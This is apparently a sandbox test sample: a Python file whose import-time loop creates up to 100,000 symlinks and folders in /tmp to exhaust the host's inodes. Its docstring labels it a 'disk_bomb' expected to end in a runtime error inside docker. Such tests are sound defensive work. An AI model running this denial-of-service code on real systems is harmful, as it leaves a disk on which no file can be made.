"""Makes empty files without end.

Mechanism: empty files, folders and links count for nothing in a size limit.
Surface: the host's inodes, and the kernel's memory behind them.
Gain: a disk on which no file can be made; reaching 100,000 shows that there is no bound.
Challenge: twice
Like: disk_bomb
Defence: runtime_error
Box: docker
"""

import os

WANTED = 100_000
made, why = 0, "nothing refused"
try:
    while made < WANTED:
        os.symlink("nowhere", f"/tmp/hostile-link-{made}")
        os.mkdir(f"/tmp/hostile-folder-{made}")
        made += 2
except OSError as error:
    why = str(error)


def solve(x, out, n):
    if made < WANTED:
        raise OSError(f"{made} made, then: {why}")
    out.copy_(2 * x)
